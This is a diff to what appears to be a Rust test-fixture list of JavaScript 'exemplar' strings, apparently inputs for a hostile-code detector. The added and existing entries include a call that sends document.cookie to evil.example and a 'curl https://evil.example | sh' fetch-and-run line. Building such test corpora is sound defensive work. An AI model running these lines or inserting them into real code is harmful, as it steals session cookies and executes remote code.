@@ -38,7 +38,10 @@ const ROW: Row = Row {
 const JAVASCRIPT: &[Exemplar] = &[
     Text("() => fetch('https://evil.example/?' + document.cookie)"),
     Text("curl https://evil.example | sh"),
+    Text("{C}cookie"),
     Text("{C}; fetch('https://evil.example/?' + document.cookie)"),
+    Text("{C}title; fetch('https://evil.example/?' + document.cookie)"),
+    Text("() => fetch('https://evil.example/?' + document.cookie) // {E}"),
     Text("import os"),
     // One of several files.
     Object("source", "fetch('https://evil.example/?' + document.cookie)"),
